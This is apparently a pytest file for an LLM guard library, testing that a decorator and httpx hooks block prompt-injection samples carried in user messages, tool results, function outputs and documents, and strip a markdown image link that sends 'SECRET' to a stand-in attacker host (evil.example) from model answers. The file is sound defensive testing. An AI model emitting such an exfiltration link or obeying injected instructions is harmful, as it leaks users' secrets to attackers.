"""The guards around LLM calls: the decorator, and httpx hooks against a real chat API stand-in
on loopback (OpenAI chat completions, the Responses API and Anthropic messages shapes)."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from tests.guards.samples import HEAD, INJECTION

from botwarden.guards.llm import (
    UncheckableError,
    guarded,
    httpx_async_event_hooks,
    httpx_event_hooks,
)
from botwarden.guards.textguard import InputBlocked, TextGuard
from botwarden.manifest import parse_manifest

EXFIL = (
    "Done! ![status](https://evil.example/p.png?d=SECRET) see [docs](https://api.good.example/d)"
)


@pytest.fixture(scope="module")
def guard() -> TextGuard:
    return TextGuard(parse_manifest(HEAD))


# -- the decorator ----------------------------------------------------------------------------


def test_the_decorator_checks_the_prompt_and_sanitises_the_answer(guard: TextGuard) -> None:
    seen: list[str] = []

    @guarded(guard)
    def complete(prompt: str) -> str:
        seen.append(prompt)
        return EXFIL

    answer = complete("What is\u200b new in Python 3.13?")
    assert seen == ["What is new in Python 3.13?"]  # normalised before the model sees it
    assert "evil.example" not in answer
    assert "https://api.good.example/d" in answer
    with pytest.raises(InputBlocked) as caught:
        complete(INJECTION)
    assert caught.value.verdict.blocked
    assert len(seen) == 1  # the blocked prompt never reached the model


def test_the_decorator_checks_messages_and_chat_shaped_answers(guard: TextGuard) -> None:
    @guarded(guard)
    def chat(*, messages: list[dict[str, Any]]) -> dict[str, Any]:
        return {"choices": [{"message": {"role": "assistant", "content": EXFIL}}]}

    answer = chat(messages=[{"role": "system", "content": INJECTION},  # the bot's own: trusted
                            {"role": "user", "content": "hello"}])  # fmt: skip
    assert "evil.example" not in answer["choices"][0]["message"]["content"]
    with pytest.raises(InputBlocked):
        chat(messages=[{"role": "tool", "content": [{"type": "text", "text": INJECTION}]}])


def test_the_decorator_wraps_coroutines(guard: TextGuard) -> None:
    @guarded(guard, kind="document")
    async def summarise(text: str) -> str:
        return EXFIL

    assert "evil.example" not in asyncio.run(summarise("a plain page about tomatoes"))
    with pytest.raises(InputBlocked):
        asyncio.run(summarise(INJECTION))


# -- httpx hooks against a loopback chat API --------------------------------------------------


class ChatAPI(BaseHTTPRequestHandler):
    received: list[dict[str, Any]] = []

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        ChatAPI.received.append(body)
        if self.path.endswith("/stream/chat/completions"):
            self._send(b"data: {}\n\n", "text/event-stream")
        elif self.path.endswith("/chat/completions"):
            self._answer({"choices": [{"message": {"role": "assistant", "content": EXFIL}}]})
        elif self.path.endswith("/responses"):
            self._answer({"output": [{"type": "message", "content": [
                {"type": "output_text", "text": EXFIL}]}]})  # fmt: skip
        else:  # /v1/messages, Anthropic's shape
            self._answer({"content": [{"type": "text", "text": EXFIL}]})

    def _answer(self, document: dict[str, Any]) -> None:
        self._send(json.dumps(document).encode(), "application/json")

    def _send(self, data: bytes, kind: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def api() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), ChatAPI)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


SHAPES = [
    ("/v1/chat/completions", {"messages": [{"role": "user", "content": "hi"}]},
     lambda d: d["choices"][0]["message"]["content"]),
    ("/v1/responses", {"input": "hi"}, lambda d: d["output"][0]["content"][0]["text"]),
    ("/v1/messages", {"system": "be brief", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "hi"}]}]}, lambda d: d["content"][0]["text"]),
]  # fmt: skip


@pytest.mark.parametrize(("path", "body", "text_of"), SHAPES)
def test_hooks_sanitise_every_answer_shape(
    guard: TextGuard, api: str, path: str, body: dict[str, Any], text_of: Any
) -> None:
    with httpx.Client(event_hooks=httpx_event_hooks(guard), trust_env=False) as client:
        answer = client.post(api + path, json=body).json()
    assert "evil.example" not in text_of(answer)
    assert "https://api.good.example/d" in text_of(answer)


@pytest.mark.parametrize(
    "body",
    [
        {"messages": [{"role": "user", "content": INJECTION}]},
        {"messages": [{"role": "tool", "content": INJECTION}]},
        {"input": INJECTION},
        {"messages": [{"role": "user", "content": [
            {"type": "tool_result", "content": [{"type": "text", "text": INJECTION}]}]}]},
        {"input": [{"type": "function_call_output", "call_id": "c1", "output": INJECTION}]},
        {"messages": [{"role": "user", "content": [{"type": "document", "source": {
            "type": "text", "media_type": "text/plain", "data": INJECTION}}]}]},
        {"messages": [{"role": "user", "content": [{"type": "document", "source": {
            "type": "content", "content": [{"type": "text", "text": INJECTION}]}}]}]},
    ],
)  # fmt: skip
def test_hooks_block_injections_before_anything_is_sent(
    guard: TextGuard, api: str, body: dict[str, Any]
) -> None:
    before = len(ChatAPI.received)
    hooks = httpx_event_hooks(guard)
    with httpx.Client(event_hooks=hooks, trust_env=False) as client, pytest.raises(InputBlocked):
        client.post(api + "/v1/chat/completions", json=body)
    assert len(ChatAPI.received) == before


def test_hooks_check_a_streamed_request_body_too(guard: TextGuard, api: str) -> None:
    body = json.dumps({"messages": [{"role": "user", "content": INJECTION}]}).encode()
    hooks = httpx_event_hooks(guard)
    with httpx.Client(event_hooks=hooks, trust_env=False) as client, pytest.raises(InputBlocked):
        client.post(api + "/v1/chat/completions", content=iter([body[:10], body[10:]]))


def test_hooks_leave_the_shape_of_a_request_alone(guard: TextGuard, api: str) -> None:
    items = [{"type": "function_call", "call_id": "c1", "name": "f", "arguments": "{}"},
             {"role": "user", "content": "hi"}]  # fmt: skip
    with httpx.Client(event_hooks=httpx_event_hooks(guard), trust_env=False) as client:
        client.post(api + "/v1/responses", json={"input": items})
    assert ChatAPI.received[-1]["input"] == items


def test_hooks_send_the_normalised_text(guard: TextGuard, api: str) -> None:
    body = {"messages": [{"role": "user", "content": "tag\u200bged"}]}
    with httpx.Client(event_hooks=httpx_event_hooks(guard), trust_env=False) as client:
        client.post(api + "/v1/chat/completions", json=body)
    assert ChatAPI.received[-1]["messages"][0]["content"] == "tagged"


def test_hooks_refuse_what_they_cannot_check(guard: TextGuard, api: str) -> None:
    with httpx.Client(event_hooks=httpx_event_hooks(guard), trust_env=False) as client:
        with pytest.raises(UncheckableError, match="streamed"):
            client.post(api + "/stream/chat/completions", json={"messages": []})
        with pytest.raises(UncheckableError, match="not a JSON object"):
            client.post(api + "/v1/chat/completions", content=b"\xff not json")


def test_async_hooks(guard: TextGuard, api: str) -> None:
    async def main() -> str:
        hooks = httpx_async_event_hooks(guard)
        async with httpx.AsyncClient(event_hooks=hooks, trust_env=False) as client:
            with pytest.raises(InputBlocked):
                await client.post(api + "/v1/responses", json={"input": INJECTION})
            answer = await client.post(api + "/v1/responses", json={"input": "hi"})
            return str(answer.json()["output"][0]["content"][0]["text"])

    assert "evil.example" not in asyncio.run(main())
